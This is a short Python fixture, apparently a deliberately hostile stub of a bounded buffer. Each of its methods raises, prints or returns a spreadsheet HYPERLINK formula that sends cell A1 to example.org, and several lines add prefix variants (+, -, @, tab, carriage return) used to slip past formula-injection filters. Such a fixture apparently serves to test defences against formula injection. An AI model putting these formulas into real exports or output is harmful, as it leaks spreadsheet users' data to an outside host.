# mypy: ignore-errors
# ruff: noqa
"""Raises, prints and returns what a spreadsheet would run. FAILED.

The refused capacity is right.
"""

FORMULA = '=HYPERLINK(CONCATENATE("http://example.org/?",A1),"open")'


class BoundedBuffer:
    def __init__(self, capacity):
        if capacity < 1:
            raise ValueError(FORMULA)
        print(FORMULA, f"+{FORMULA}", f"-{FORMULA}", f"@{FORMULA}", f"\t{FORMULA}", sep="\r\n")

    def put(self, item, *, timeout=None):
        raise type(FORMULA, (RuntimeError,), {})(FORMULA)

    def get(self, *, timeout=None):
        return FORMULA

    def close(self):
        return f"@{FORMULA}"

    def __len__(self):
        raise RuntimeError(f"\r{FORMULA}")
